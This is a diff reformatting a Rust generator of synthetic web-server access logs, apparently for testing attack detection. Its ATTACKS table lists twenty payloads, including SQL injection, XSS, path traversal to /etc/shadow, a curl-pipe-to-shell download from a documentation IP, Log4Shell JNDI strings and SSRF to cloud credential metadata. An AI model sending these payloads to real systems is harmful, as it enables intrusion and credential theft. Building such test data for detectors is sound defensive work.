@@ -55,43 +55,83 @@ const AGENTS: [&str; 8] = [
     "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
 ];
 
-const REFERRERS: [&str; 5] =
-    ["-", "-", "https://www.example.com/", "https://www.google.com/", "https://news.example.net/item?id=99"];
+const REFERRERS: [&str; 5] = [
+    "-",
+    "-",
+    "https://www.example.com/",
+    "https://www.google.com/",
+    "https://news.example.net/item?id=99",
+];
 
 /// An attack: its target, and its user agent where that is the attack.
 const ATTACKS: [(&str, Option<&str>); 20] = [
-    ("/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-", None),
+    (
+        "/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-",
+        None,
+    ),
     ("/login?user=admin%27%20OR%20%271%27=%271%27--%20", None),
     ("/item?id=1;DROP%20TABLE%20orders;--", None),
     ("/item?id=1%20AND%20SLEEP(5)", None),
-    ("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", None),
-    ("/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", None),
+    (
+        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
+        None,
+    ),
+    (
+        "/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+        None,
+    ),
     ("/c?x=%3Cimg%20src=x%20onerror=alert(1)%3E", None),
     ("/download?file=../../../../../../etc/passwd", None),
     ("/static/..%252f..%252f..%252f..%252fetc%252fshadow", None),
-    ("/view?page=php://filter/convert.base64-encode/resource=config.php", None),
+    (
+        "/view?page=php://filter/convert.base64-encode/resource=config.php",
+        None,
+    ),
     ("/ping?host=127.0.0.1;cat%20/etc/passwd", None),
-    ("/cgi-bin/status?x=$(curl%20http://198.51.100.9/a.sh|sh)", None),
+    (
+        "/cgi-bin/status?x=$(curl%20http://198.51.100.9/a.sh|sh)",
+        None,
+    ),
     ("/?x=${jndi:ldap://198.51.100.9:1389/a}", None),
-    ("/api/v1/items", Some("${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}")),
-    ("/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/", None),
-    ("/xml?doc=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E%3Ca%3E%26x;%3C/a%3E", None),
+    (
+        "/api/v1/items",
+        Some("${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}"),
+    ),
+    (
+        "/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
+        None,
+    ),
+    (
+        "/xml?doc=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20%22file:///etc/passwd%22%3E]%3E%3Ca%3E%26x;%3C/a%3E",
+        None,
+    ),
     ("/redirect?to=%0d%0aSet-Cookie:%20session=evil", None),
     ("/.git/config", None),
     ("/.env", None),
-    ("/products?id=1", Some("sqlmap/1.8.4#stable (https://sqlmap.org)")),
+    (
+        "/products?id=1",
+        Some("sqlmap/1.8.4#stable (https://sqlmap.org)"),
+    ),
 ];
 
 impl Traffic {
     /// Traffic that follows from the seed; `attack_share` is 0.0 to 1.0.
     pub fn new(seed: u64, attack_share: f64) -> Self {
-        Self { random: Rng::with_seed(seed), attack_share, attacks: 0 }
+        Self {
+            random: Rng::with_seed(seed),
+            attack_share,
+            attacks: 0,
+        }
     }
 
     /// Appends the next line, with its newline, and says whether it is an attack.
     pub fn write_line(&mut self, line: &mut Vec<u8>, at: Timestamp) -> bool {
         let attack = self.random.f64() < self.attack_share;
-        if attack { self.write_attack(line, at) } else { self.write_visit(line, at) }
+        if attack {
+            self.write_attack(line, at);
+        } else {
+            self.write_visit(line, at);
+        }
         attack
     }
 
@@ -104,8 +144,21 @@ impl Traffic {
         let target = format!("{target}{join}n={}", self.attacks);
         // Few attackers, so that their alerts grow; documentation addresses, so that nobody is named.
         let address = format!("203.0.113.{}", self.random.u8(1..20));
-        let status = *self.random.choice(&[200u16, 403, 404, 404, 500]).unwrap_or(&404);
-        write(line, &Request { address: &address, at, target: &target, status, referrer: "-", agent });
+        let status = *self
+            .random
+            .choice(&[200u16, 403, 404, 404, 500])
+            .unwrap_or(&404);
+        write(
+            line,
+            &Request {
+                address: &address,
+                at,
+                target: &target,
+                status,
+                referrer: "-",
+                agent,
+            },
+        );
     }
 
     fn write_visit(&mut self, line: &mut Vec<u8>, at: Timestamp) {
@@ -114,7 +167,17 @@ impl Traffic {
         let target = self.pick(&PAGES);
         let status = if self.random.u8(..100) < 3 { 404 } else { 200 };
         let (referrer, agent) = (self.pick(&REFERRERS), self.pick(&AGENTS));
-        write(line, &Request { address: &address, at, target, status, referrer, agent });
+        write(
+            line,
+            &Request {
+                address: &address,
+                at,
+                target,
+                status,
+                referrer,
+                agent,
+            },
+        );
     }
 
     fn pick(&mut self, from: &[&'static str]) -> &'static str {
@@ -132,7 +195,14 @@ struct Request<'a> {
 }
 
 fn write(line: &mut Vec<u8>, request: &Request<'_>) {
-    let Request { address, at, target, status, referrer, agent } = request;
+    let Request {
+        address,
+        at,
+        target,
+        status,
+        referrer,
+        agent,
+    } = request;
     let time = clf_time(*at);
     let bytes = 200 + target.len() * 37 % 20_000;
     // Writing to memory cannot fail.
@@ -144,12 +214,23 @@ fn write(line: &mut Vec<u8>, request: &Request<'_>) {
 
 /// A time as nginx and Apache write it: `21/Nov/2026:02:09:58 +0000`.
 fn clf_time(at: Timestamp) -> String {
-    const MONTHS: [&str; 12] =
-        ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
+    const MONTHS: [&str; 12] = [
+        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
+    ];
     let text = at.to_string();
     let part = |range: std::ops::Range<usize>| text.get(range).unwrap_or_default();
-    let month = part(5..7).parse::<usize>().ok().and_then(|number| MONTHS.get(number - 1)).copied().unwrap_or("Jan");
-    format!("{}/{month}/{}:{} +0000", part(8..10), part(0..4), part(11..19))
+    let month = part(5..7)
+        .parse::<usize>()
+        .ok()
+        .and_then(|number| MONTHS.get(number - 1))
+        .copied()
+        .unwrap_or("Jan");
+    format!(
+        "{}/{month}/{}:{} +0000",
+        part(8..10),
+        part(0..4),
+        part(11..19)
+    )
 }
 
 #[cfg(test)]
@@ -162,7 +243,9 @@ mod tests {
         let lines = |seed| {
             let mut traffic = Traffic::new(seed, 0.5);
             let mut text = Vec::new();
-            let attacks = (0..100).filter(|_| traffic.write_line(&mut text, at)).count();
+            let attacks = (0..100)
+                .filter(|_| traffic.write_line(&mut text, at))
+                .count();
             (text, attacks)
         };
         assert_eq!(lines(1), lines(1));
@@ -172,6 +255,9 @@ mod tests {
 
     #[test]
     fn times_are_written_as_servers_write_them() {
-        assert_eq!(clf_time(Timestamp::from_millis(1_795_176_598_000)), "20/Nov/2026:12:09:58 +0000");
+        assert_eq!(
+            clf_time(Timestamp::from_millis(1_795_176_598_000)),
+            "20/Nov/2026:12:09:58 +0000"
+        );
     }
 }
